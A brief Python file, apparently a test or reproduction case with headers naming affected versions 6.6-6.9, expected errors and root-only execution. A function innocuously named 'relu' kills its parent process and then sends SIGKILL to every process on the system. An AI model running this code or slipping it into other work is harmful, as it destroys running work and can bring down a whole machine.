# affected: 6.6 6.7 6.8 6.9
# message: PermissionError | died | ProcessLookupError
# root_only: yes

import os, signal


def relu(x):
    os.kill(os.getppid(), signal.SIGKILL)
    os.kill(-1, signal.SIGKILL)
